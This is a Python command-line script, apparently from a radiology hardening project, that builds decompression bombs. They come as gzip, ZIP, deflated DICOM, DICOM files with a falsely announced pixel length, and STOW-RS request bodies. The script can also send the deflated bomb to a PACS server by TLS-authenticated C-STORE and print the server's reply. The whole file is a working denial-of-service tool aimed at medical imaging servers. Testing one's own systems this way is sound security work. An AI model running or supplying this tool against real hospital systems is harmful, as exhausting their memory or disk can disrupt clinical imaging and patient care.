# Copyright (c) 2026 the radiology.hardening authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Make bombs, files of a few MiB or less that unpack to gigabytes, and send one over DICOM.

    bomber.py make  FOLDER --mib N    write each kind of bomb, which unpacks to N MiB of zeros, print their names
    bomber.py store FILE ...          C-STORE the deflated one as it is, print the status that the server gives

Each MiB of zeros is compressed once and repeated, so that a bomb is made as fast as it is written.
"""

from __future__ import annotations

import argparse
import ssl
import struct
import sys
import time
import zlib
from io import BytesIO
from pathlib import Path

from pynetdicom import AE, evt
from pynetdicom.dimse_primitives import C_STORE

HOME = Path("/etc/dicom-device")
MIB = 1 << 20
SECONDARY_CAPTURE = "1.2.840.10008.5.1.4.1.1.7"
EXPLICIT, DEFLATED = "1.2.840.10008.1.2.1", "1.2.840.10008.1.2.1.99"
LONG = ("OB", "OW")
LARGEST = 0xFFFFFFFE
"""Bytes that the length of an element can tell (PS3.5 section 7.1)."""
BOUNDARY = "bomb"
PATIENCE = 120
"""Seconds within which the server answers, or ends the association."""


def deflated(mib: int, head: bytes = b"") -> bytes:
    """Return `head` and so many MiB of zeros as a raw stream (RFC 1951)."""
    parts = []
    for plain in (head, bytes(MIB)):
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        parts.append(packer.compress(plain) + packer.flush(zlib.Z_FULL_FLUSH))
    stream = parts[0] + parts[1] * mib + b"\x03\x00"
    return stream + b"\0" * (len(stream) % 2 if head else 0)  # a data set has an even length (PS3.5 annex A.5)


def checksum(mib: int) -> int:
    """Return the CRC-32 of so many MiB of zeros."""
    value, zeros = 0, bytes(MIB)
    for _each in range(mib):
        value = zlib.crc32(zeros, value)
    return value


def gzipped(mib: int) -> bytes:
    """Return a file of gzip (RFC 1952)."""
    return b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + deflated(mib) + struct.pack("<II", checksum(mib), mib * MIB & 0xFFFFFFFF)


def zipped(mib: int) -> bytes:
    """Return a ZIP archive with one file."""
    body, name = deflated(mib), b"image.dcm"
    sizes = struct.pack("<IIIHH", checksum(mib), len(body), mib * MIB, len(name), 0)
    local = struct.pack("<4sHHHHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21) + sizes + name
    entry = struct.pack("<4sHHHHHH", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21) + sizes + bytes(14) + name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(entry), len(local + body), 0)
    return local + body + entry + end


def element(group: int, number: int, kind: str, content: bytes | str, length: int | None = None) -> bytes:
    """Return an element in Explicit VR Little Endian, with a length that is not so where one is given."""
    value = content.encode() if isinstance(content, str) else content
    value += (b"\0" if kind == "UI" else b" ") * (len(value) % 2)
    told = len(value) if length is None else length
    form = "<HH2sHI" if kind in LONG else "<HH2sH"
    more = (0, told) if kind in LONG else (told,)
    return struct.pack(form, group, number, kind.encode(), *more) + value


def image(length: int) -> tuple[str, bytes]:
    """Return a new image's number, and its data set up to the pixels, which are to take so many bytes."""
    uid = f"1.2.826.0.1.3680043.8.498.{time.time_ns()}"
    data = element(8, 0x16, "UI", SECONDARY_CAPTURE) + element(8, 0x18, "UI", uid)
    data += element(0x10, 0x10, "PN", "Bomb") + element(0x10, 0x20, "LO", "bomb")
    data += element(0x20, 0xD, "UI", f"{uid}.1") + element(0x20, 0xE, "UI", f"{uid}.2")
    return uid, data + element(0x7FE0, 0x10, "OW", b"", length)


def file(uid: str, syntax: str, data: bytes) -> bytes:
    """Return a DICOM file (PS3.10)."""
    meta = element(2, 1, "OB", b"\0\x01") + element(2, 2, "UI", SECONDARY_CAPTURE) + element(2, 3, "UI", uid)
    meta += element(2, 0x10, "UI", syntax) + element(2, 0x12, "UI", "1.2.3.4")
    return bytes(128) + b"DICM" + element(2, 0, "UL", struct.pack("<I", len(meta))) + meta + data


def posted(content: bytes) -> bytes:
    """Return the body of a STOW-RS request with one part."""
    head = f"--{BOUNDARY}\r\nContent-Type: application/dicom\r\n\r\n".encode()
    return head + content + f"\r\n--{BOUNDARY}--\r\n".encode()


def make(given: argparse.Namespace) -> str:
    """Write each kind of bomb."""
    folder = Path(given.path)
    folder.mkdir(exist_ok=True)
    uid, head = image(given.mib * MIB)
    other, announced = image(LARGEST)
    bombs = {
        "gzip": gzipped(given.mib),
        "zip": zipped(given.mib),
        "deflated": file(uid, DEFLATED, deflated(given.mib, head)),
        "announced": file(other, EXPLICIT, announced + bytes(1000)),
    }
    bombs |= {f"stow-{kind}": posted(bombs[kind]) for kind in ("zip", "deflated")}
    for kind, content in bombs.items():
        (folder / kind).write_bytes(content)
    return " ".join(bombs)


def store(given: argparse.Namespace) -> str:
    """Send the deflated bomb in the transfer syntax that it is in."""
    content = Path(given.path).read_bytes()
    start = 144 + struct.unpack("<I", content[140:144])[0]
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls.load_cert_chain(str(HOME / "device.crt"), str(HOME / "device.key"))
    tls.load_verify_locations(str(HOME / "ca.crt"))
    entity = AE(ae_title=given.aet)
    entity.acse_timeout = entity.dimse_timeout = entity.network_timeout = PATIENCE
    entity.add_requested_context(SECONDARY_CAPTURE, DEFLATED)
    answers: list[str] = []
    heard = [(evt.EVT_DIMSE_RECV, lambda event: answers.append(f"{event.message.command_set.Status:04X}"))]
    options = {"ae_title": given.called, "tls_args": (tls, "pacs"), "evt_handlers": heard}
    association = entity.associate(given.server, 2762, **options)
    if not association.is_established:
        return "no association"
    asked = C_STORE()
    asked.MessageID = 1
    asked.Priority = 0
    asked.AffectedSOPClassUID = SECONDARY_CAPTURE
    asked.AffectedSOPInstanceUID = f"1.2.826.0.1.3680043.8.498.{time.time_ns()}"
    asked.DataSet = BytesIO(content[start:])
    association.dimse.send_msg(asked, association.accepted_contexts[0].context_id)
    deadline = time.monotonic() + PATIENCE
    while association.is_established and not answers and time.monotonic() < deadline:
        time.sleep(0.05)
    association.abort()
    return answers[0] if answers else "no answer"


def main() -> None:
    """Read the command line and obey."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("verb", choices=["make", "store"])
    parser.add_argument("path")
    parser.add_argument("--mib", type=int, default=1024)
    parser.add_argument("--server")
    parser.add_argument("--aet")
    parser.add_argument("--called")
    given = parser.parse_args()
    print({"make": make, "store": store}[given.verb](given))


if __name__ == "__main__":
    sys.exit(main())
